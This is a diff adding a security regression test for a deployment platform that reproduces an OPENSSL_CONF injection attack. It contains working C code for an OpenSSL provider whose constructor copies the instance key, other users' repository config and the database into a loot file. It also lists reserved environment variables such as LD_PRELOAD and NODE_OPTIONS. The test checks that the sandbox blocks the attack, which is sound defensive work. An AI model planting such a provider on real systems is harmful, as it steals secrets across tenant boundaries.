@@ -1,7 +1,12 @@
 import { test } from '@japa/runner'
-import { existsSync } from 'node:fs'
+import { execFileSync, spawnSync } from 'node:child_process'
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
 import { join, resolve } from 'node:path'
 import db from '@adonisjs/lucid/services/db'
+import encryption from '@adonisjs/core/services/encryption'
+import { dbTime } from '#lib/db_time'
+import { appIdentity } from '../../plugins/process/sandbox.js'
 import env from '#start/env'
 import xbasis from '#config/xbasis'
 import deploy from '#deploy/deploy_manager'
@@ -131,5 +136,171 @@ test.group('Deployments: isolation of generated apps (process target)', (group) 
     assert.isFalse(report.subprocess.ok, 'no other program')
     assert.isFalse(report.worker.ok, 'no worker thread')
     delete process.env.XBASIS_ISOLATION_MARKER
+  }).timeout(120_000)
+})
+
+/**
+ * Issue 10, item 2: the attack as it was found. The project names
+ * OPENSSL_CONF; the app writes an OpenSSL provider (a .so) and a config into
+ * its own folder, crashes, and is restarted with the variable: OpenSSL loads
+ * the .so at start, outside Node's permission model, and its constructor
+ * copies DATA_DIR/app.key into the app's folder. The .so is compiled here
+ * (gcc) with the paths to steal written into it.
+ */
+function compileStealer(targets: string[]) {
+  const dir = mkdtempSync(join(tmpdir(), 'xbasis-stealer-'))
+  const source = `#include <stdio.h>
+#include <stdlib.h>
+static const char *targets[] = { ${targets.map((t) => JSON.stringify(t)).join(', ')}, 0 };
+__attribute__((constructor)) static void steal(void) {
+  const char *dst = getenv("LOOT"); if (!dst) dst = "loot.txt";
+  FILE *out = fopen(dst, "w"); if (!out) return;
+  for (int i = 0; targets[i]; i++) {
+    FILE *in = fopen(targets[i], "r");
+    if (!in) { fprintf(out, "denied %s\\n", targets[i]); continue; }
+    char buf[4096]; size_t n; fprintf(out, "read %s: ", targets[i]);
+    while ((n = fread(buf, 1, sizeof buf, in)) > 0) fwrite(buf, 1, n, out);
+    fprintf(out, "\\n"); fclose(in);
+  }
+  fclose(out);
+}
+typedef struct { int id; void (*fn)(void); } dispatch;
+static const dispatch none[] = { { 0, 0 } };
+int OSSL_provider_init(const void *h, const void *in, const dispatch **out, void **ctx) { *out = none; *ctx = 0; return 1; }
+`
+  writeFileSync(join(dir, 'stealer.c'), source)
+  try {
+    execFileSync('gcc', ['-shared', '-fPIC', '-o', join(dir, 'stealer.so'), join(dir, 'stealer.c')])
+  } catch (error) {
+    throw new Error(`this test compiles an OpenSSL provider with gcc: apt-get install -y gcc (${(error as Error).message})`)
+  }
+  const so = readFileSync(join(dir, 'stealer.so')).toString('base64')
+  rmSync(dir, { recursive: true, force: true })
+  return so
+}
+
+const ATTACK_APP = (stealerBase64: string) => ({
+  'package.json': JSON.stringify({ name: 'attack', version: '1.0.0', private: true, scripts: { start: 'node server.js' } }),
+  'stealer.b64': stealerBase64,
+  'server.js': `const http = require('node:http')
+const fs = require('node:fs')
+const path = require('node:path')
+const here = (f) => path.join(__dirname, f)
+http.createServer((req, res) => {
+  if (req.url === '/health') return res.end('ok')
+  if (req.url === '/plant') {
+    fs.writeFileSync(here('stealer.so'), Buffer.from(fs.readFileSync(here('stealer.b64'), 'utf8'), 'base64'))
+    fs.writeFileSync(here('openssl.cnf'), 'nodejs_conf = init\\n[init]\\nproviders = prov\\n[prov]\\ndefault = default_sect\\nevil = evil_sect\\n[default_sect]\\nactivate = 1\\n[evil_sect]\\nmodule = ' + here('stealer.so') + '\\nactivate = 1\\n')
+    res.end('planted')
+    return setTimeout(() => process.exit(1), 20)
+  }
+  res.setHeader('content-type', 'application/json')
+  let loot = null
+  try { loot = fs.readFileSync(here('loot.txt'), 'utf8') } catch {}
+  res.end(JSON.stringify({ pid: process.pid, uid: process.getuid(), gid: process.getgid(), opensslConf: process.env.OPENSSL_CONF ?? null, loot }))
+}).listen(Number(process.env.PORT), process.env.HOST)
+`,
+})
+
+test.group('Deployments: loader and runtime variables (process target)', (group) => {
+  group.each.setup(() => truncateAll())
+  group.teardown(async () => {
+    const driver = await deploy.use('process')
+    for (const row of await db.from('deployments').whereNotNull('handle')) await driver.destroy(typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle).catch(() => {})
+  })
+
+  test('OPENSSL_CONF cannot load native code into an app, and native code in an app cannot read DATA_DIR', async ({ assert }) => {
+    const keyFile = join(xbasis.dataDir, 'app.key')
+    assert.isTrue(existsSync(keyFile), 'the instance keeps its generated key in DATA_DIR')
+    const bob = await apiAccount('Bob')
+    await bob.json('PUT', `/api/v1/projects/${bob.project.id}/files/server.js`, { content: 'bob' })
+    const bobsRepo = join(xbasis.paths.projects, `${bob.project.id}.git`, 'config')
+    const stolen = [resolve(keyFile), resolve(bobsRepo)]
+    if (env.get('DB_CONNECTION', 'sqlite') === 'sqlite') stolen.push(resolve(xbasis.paths.database))
+    for (const path of stolen) assert.isTrue(existsSync(path), `${path} exists`)
+
+    const mallory = await apiAccount('Mallory')
+    const envUrl = `/api/v1/projects/${mallory.project.id}/env`
+    // The project env API refuses every loader/runtime family, with the reason.
+    for (const [name, reason] of [
+      ['OPENSSL_CONF', /OpenSSL reads it/],
+      ['OPENSSL_MODULES', /OpenSSL reads it/],
+      ['SSL_CERT_FILE', /OpenSSL reads it/],
+      ['GCONV_PATH', /loader or C library/],
+      ['LOCPATH', /loader or C library/],
+      ['HOSTALIASES', /loader or C library/],
+      ['MALLOC_CHECK_', /loader or C library/],
+      ['LD_PRELOAD', /loader or C library/],
+      ['NODE_OPTIONS', /Node\.js reads it/],
+      ['PREFIX', /npm or git/],
+      ['NPM_CONFIG_USERCONFIG', /npm or git/],
+      ['PYTHONPATH', /another language runtime/],
+      ['PERL5OPT', /another language runtime/],
+      ['TMPDIR', /the platform sets it/],
+    ] as const) {
+      const answer = await mallory.json('PUT', envUrl, { name, value: 'openssl.cnf' })
+      assert.equal(answer.status, 422, name)
+      assert.equal(answer.body.errors[0].field, 'name')
+      assert.match(answer.body.errors[0].message, new RegExp(`^${name} is reserved: `), name)
+      assert.match(answer.body.errors[0].message, reason, name)
+    }
+    assert.equal((await mallory.json('PUT', envUrl, { name: 'OPENSSL_LIKE_NAME_OK', value: 'x' })).status, 422)
+    assert.equal((await mallory.json('PUT', envUrl, { name: 'STRIPE_KEY', value: 'sk_test' })).status, 201, 'ordinary names are the app’s')
+    // A variable stored before the allow-list (or written to the table by anything else) never reaches the app.
+    await db.table('project_env_vars').insert({
+      project_id: mallory.project.id,
+      key: 'OPENSSL_CONF',
+      environment: 'all',
+      value: encryption.encrypt('openssl.cnf'),
+      secret: true,
+      source: 'user',
+      created_at: dbTime(),
+      updated_at: dbTime(),
+    })
+
+    for (const [path, content] of Object.entries(ATTACK_APP(compileStealer(stolen)))) {
+      assert.equal((await mallory.json('PUT', `/api/v1/projects/${mallory.project.id}/files/${path}`, { content })).status, 200, path)
+    }
+    const attack = await deployed(mallory)
+    assert.equal(attack.deployment.status, 'live', attack.deployment.reason)
+    const row = await db.from('deployments').where('id', attack.deployment.id).first()
+    const appUrl = (typeof row.handle === 'string' ? JSON.parse(row.handle) : row.handle).url as string
+    const report = async () => (await (await fetch(`${appUrl}/report`)).json()) as any
+    const before = await report()
+    assert.equal(await (await fetch(`${appUrl}/plant`)).text(), 'planted')
+    // The target restarts the crashed app (back-off 1 s).
+    let after: any = null
+    for (let i = 0; i < 100 && !after; i++) {
+      await new Promise((r) => setTimeout(r, 100))
+      after = await report().then((r) => (r.pid !== before.pid ? r : null), () => null)
+    }
+    assert.isNotNull(after, 'the app was restarted')
+    assert.isNull(after.opensslConf, 'the restarted app did not get OPENSSL_CONF')
+    assert.isNull(after.loot, 'nothing was loaded, nothing stolen')
+    assert.isFalse(existsSync(join(attack.dir, 'app', 'loot.txt')))
+
+    // The app runs as an unprivileged user of its own…
+    const identity = appIdentity(mallory.project.id, 'preview')!
+    assert.deepEqual({ uid: after.uid, gid: after.gid }, identity)
+    assert.notEqual(after.uid, process.getuid!())
+
+    // …so even if a loader variable got through, the native code would run as
+    // that user: run the planted provider exactly as a restart with
+    // OPENSSL_CONF would have, as the app's user, and as the platform's.
+    const appDir = join(attack.dir, 'app')
+    const run = (loot: string, asApp: boolean) => {
+      const result = spawnSync(process.execPath, ['-e', 'require("node:crypto").randomBytes(1)'], {
+        cwd: appDir,
+        env: { PATH: '/usr/bin:/bin', OPENSSL_CONF: join(appDir, 'openssl.cnf'), LOOT: loot },
+        ...(asApp ? identity : {}),
+      })
+      assert.equal(result.status, 0, String(result.stderr))
+      return readFileSync(loot, 'utf8')
+    }
+    const asPlatform = run(join(mkdtempSync(join(tmpdir(), 'xbasis-loot-')), 'loot.txt'), false)
+    assert.include(asPlatform, `read ${resolve(keyFile)}: ${readFileSync(keyFile, 'utf8').trim()}`, 'the planted provider does steal when it runs as the platform’s user')
+    const asApp = run(join(attack.dir, 'tmp', 'loot.txt'), true)
+    for (const path of stolen) assert.include(asApp, `denied ${path}`, path)
+    assert.notInclude(asApp, 'read ')
   }).timeout(120_000)
 })
